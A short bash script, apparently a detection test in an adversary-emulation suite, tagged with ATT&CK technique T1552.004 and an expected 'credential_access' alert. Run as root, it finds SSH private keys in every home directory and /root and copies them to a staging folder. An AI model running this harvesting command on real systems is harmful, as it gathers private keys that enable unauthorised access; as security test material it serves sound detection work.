#!/usr/bin/env bash
# tactic: credential-access
# technique: T1552.004 Unsecured Credentials: Private Keys
# behaviour: finds SSH private keys in every home directory and copies them
# as: root
# expect: credential_access
set -u
mkdir -p "$SNTL_TMP/k"
find /home /root -path '*/.ssh/*' -name 'id_*' ! -name '*.pub' 2>/dev/null | while read -r k; do
  cp "$k" "$SNTL_TMP/k/$(echo "$k" | tr / _)"
done
ls "$SNTL_TMP/k"
